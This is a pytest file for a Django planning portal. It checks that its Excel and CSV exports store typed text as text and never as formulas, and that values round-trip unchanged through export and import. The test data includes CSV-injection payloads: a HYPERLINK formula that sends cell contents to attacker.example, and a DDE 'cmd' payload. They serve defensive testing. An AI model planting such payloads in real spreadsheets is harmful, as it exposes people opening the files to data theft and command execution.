"""Text written into a spreadsheet is text, never a formula (issue 14, finding 4).

Each file the portal writes is read back as Excel and a CSV reader would: every .xlsx cell
holding text is a text cell (openpyxl data_type "s") with the text exactly, no CSV cell starts
with = + - @ tab or CR unless it is a plain number, and what an export wrote, an import reads
back unchanged.
"""

import csv
import io
import re
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from indicators.models import Indicator, IndicatorResult
from plans.models import EntryStatus
from plans.progress.results_import import RESULT_KINDS, results_import
from plans.spreadsheets import read_table
from projects.imports import projects_import, read_project_list
from projects.models import Project, ProjectProgress
from projects.resources import TEMPLATE_COLUMNS

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://attacker.example/?"&A1,"詳細")'
ANALYSIS = "=前年度比で増加"
HOSTILE = [LINK, ANALYSIS, "+1件増", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\tタブ", "#N/A"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?[\d,]+(\.\d+)?")


def assert_text_cells_only(data, expected):
    """No cell of the workbook is a formula (or an error value), and `expected` are there."""
    workbook = load_workbook(io.BytesIO(data))
    found = set()
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type not in ("f", "e"), (cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    found.add(cell.value)
    assert set(expected) <= found, set(expected) - found


def assert_no_formula_in_csv(rows):
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START) or PLAIN_NUMBER.fullmatch(cell), cell


@pytest.fixture
def admin_client(client, personas):
    client.force_login(personas["admin"])
    return client


@pytest.fixture
def hostile_plan(seed_results):
    """The seed plan with hostile text where a person can type: names, analyses, progress."""
    plan = seed_results
    plan.title = LINK
    plan.save()
    indicator = Indicator.objects.get(policy__plan=plan, name="SNSのフォロワー数")
    indicator.name = LINK
    indicator.save()
    IndicatorResult.objects.filter(indicator=indicator, fiscal_year=2024).update(analysis=ANALYSIS)
    IndicatorResult.objects.filter(
        indicator__name="ESD・市民協働推進センターの相談者数", fiscal_year=2024
    ).update(value=Decimal("-5"))
    project = Project.objects.get(plan=plan, name="市民協働推進事業")
    project.name = LINK
    project.summary = ANALYSIS
    project.save()
    ProjectProgress.objects.create(
        project=project,
        fiscal_year=2024,
        activities="+1件増",
        issues="@SUM(1+1)",
        grade="B",
        status=EntryStatus.APPROVED,
    )
    return plan


def test_the_report_workbook_holds_text_never_formulas(admin_client, hostile_plan):
    response = admin_client.get(reverse("plans:report_xlsx", args=[hostile_plan.code, 2024]))
    assert response.status_code == 200
    assert_text_cells_only(response.content, [LINK, ANALYSIS, "+1件増", "@SUM(1+1)"])
    sheet = load_workbook(io.BytesIO(response.content))["成果指標"]
    assert sheet["A1"].value == f"{LINK} 2024年度 進捗状況報告書(年次報告)"
    # In a page header "&" starts a code (&A is the sheet name): the title's own is doubled.
    assert sheet.oddHeader.center.text == f"{LINK.replace('&', '&&')} 2024年度"


def test_open_data_csv_neutralises_text_and_keeps_negative_numbers(client, hostile_plan):
    response = client.get(reverse("plans:open_csv", args=[hostile_plan.code]))
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert_no_formula_in_csv(row.values() for row in rows)
    assert "'" + LINK in {row["指標名"] for row in rows}
    assert {row["計画名"] for row in rows} == {"'" + LINK}
    # A negative value is a number, not text: no apostrophe in front of it.
    assert "-5" in {row["実績値"] for row in rows}


def test_results_fill_in_files_hold_text_and_round_trip_exactly(
    admin_client, hostile_plan, personas
):
    plan = hostile_plan
    indicator = Indicator.objects.get(policy__plan=plan, name=LINK)
    IndicatorResult.objects.create(
        indicator=indicator, fiscal_year=2025, value=Decimal("1650"), analysis=ANALYSIS,
        status=EntryStatus.SUBMITTED,
    )  # fmt: skip
    project = Project.objects.get(plan=plan, name=LINK)
    ProjectProgress.objects.create(
        project=project, fiscal_year=2025, activities=ANALYSIS, issues="-2+3+cmd|' /C calc'!A0",
        grade="B", outlook="continue", status=EntryStatus.SUBMITTED,
    )  # fmt: skip
    for kind, expected in [
        ("indicators", [LINK, ANALYSIS]),
        ("projects", [LINK, ANALYSIS, "-2+3+cmd|' /C calc'!A0"]),
    ]:
        response = admin_client.get(
            reverse("plans:fill_in_file", args=[plan.code, 2025, kind, "none"])
        )
        assert response.status_code == 200
        assert_text_cells_only(response.content, expected)
        spec = RESULT_KINDS[kind]
        table = read_table(
            response.content, f"{kind}.xlsx", columns=spec.columns, required=spec.required
        )
        filled = [row for row in table.dataset.dict if row[spec.key_column] == LINK]
        assert len(filled) == 1
        assert ANALYSIS in filled[0].values()  # exactly, not empty
        report = results_import(
            plan=plan, fiscal_year=2025, kind=kind, table=table, user=personas["admin"],
            dry_run=False,
        )  # fmt: skip
        assert not report.errors
        assert [row.action for row in report.rows if row.name == LINK] == ["変更なし"]
    assert IndicatorResult.objects.get(indicator=indicator, fiscal_year=2025).analysis == ANALYSIS
    assert ProjectProgress.objects.get(project=project, fiscal_year=2025).activities == ANALYSIS


def test_project_export_holds_text_and_round_trips_exactly(admin_client, hostile_plan):
    response = admin_client.get(reverse("admin:projects_project_export", args=[hostile_plan.code]))
    assert response.status_code == 200
    assert_text_cells_only(response.content, [LINK, ANALYSIS])
    table = read_project_list(response.content, "projects.xlsx")
    by_name = {row["事業名"]: row for row in table.dataset.dict}
    assert by_name[LINK]["事業概要"] == ANALYSIS
    report = projects_import(plan=hostile_plan, table=table, dry_run=False)
    assert report.counts["変更なし"] == len(table.dataset)
    assert Project.objects.get(plan=hostile_plan, name=LINK).summary == ANALYSIS


def test_the_project_template_holds_text(admin_client):
    response = admin_client.get(reverse("admin:projects_project_template"))
    assert_text_cells_only(response.content, TEMPLATE_COLUMNS)


def test_errors_csv_of_the_project_import_neutralises_names(admin_client, okayama_plan):
    rows = f'事業名,基本施策\r\n"{LINK.replace(chr(34), chr(34) * 2)}",9-9\r\n@SUM(1+1),9-9\r\n'
    file = SimpleUploadedFile("projects.csv", rows.encode("utf-8"))
    response = admin_client.post(
        reverse("admin:projects_project_import"), {"plan": okayama_plan.pk, "file": file}
    )
    link = re.search(r'href="([^"]*errors\.csv[^"]*)"', response.content.decode())[1]
    errors = admin_client.get(link.replace("&amp;", "&"))
    rows = list(csv.reader(io.StringIO(errors.content.decode("utf-8-sig"))))
    assert_no_formula_in_csv(rows)
    assert [row[1] for row in rows[1:]] == ["'" + LINK, "'@SUM(1+1)"]


def test_errors_csv_of_the_results_import_neutralises_names(admin_client, okayama_plan):
    rows = "指標名,実績値\r\n=1+1,1\r\n\"-2+3+cmd|' /C calc'!A0\",1\r\n"
    file = SimpleUploadedFile("results.csv", rows.encode("utf-8"))
    url = reverse("plans:results_import", args=[okayama_plan.code, 2025])
    response = admin_client.post(url, {"kind": "indicators", "file": file, "encoding": ""})
    link = re.search(r'href="([^"]*errors\.csv[^"]*)"', response.content.decode())[1]
    errors = admin_client.get(link.replace("&amp;", "&"))
    rows = list(csv.reader(io.StringIO(errors.content.decode("utf-8-sig"))))
    assert_no_formula_in_csv(rows)
    assert [row[1] for row in rows[1:]] == ["'=1+1", "'-2+3+cmd|' /C calc'!A0"]


def test_a_neutralised_csv_reads_back_exactly(okayama_plan, personas):
    """A CSV whose text cells carry the apostrophe (ours, or another tool's): the text comes
    back without it, and "'-5" in a numeric column is the number -5."""
    indicator = Indicator.objects.create(
        policy=okayama_plan.policies.get(number=1), position=9, name="人口の社会増減",
        unit="人", baseline_value=-20, baseline_year=2020, target_value=0, target_year=2025,
    )  # fmt: skip
    text = "指標名,実績値,測定なし,要因分析\r\n人口の社会増減,'-5,,'=前年度比で増加\r\n"
    spec = RESULT_KINDS["indicators"]
    table = read_table(text.encode(), "results.csv", columns=spec.columns, required=spec.required)
    assert table.dataset.dict[0]["要因分析"] == ANALYSIS
    report = results_import(
        plan=okayama_plan, fiscal_year=2025, kind="indicators", table=table,
        user=personas["admin"], dry_run=False,
    )  # fmt: skip
    assert not report.errors, report.errors
    result = IndicatorResult.objects.get(indicator=indicator, fiscal_year=2025)
    assert (result.value, result.analysis) == (Decimal("-5"), ANALYSIS)
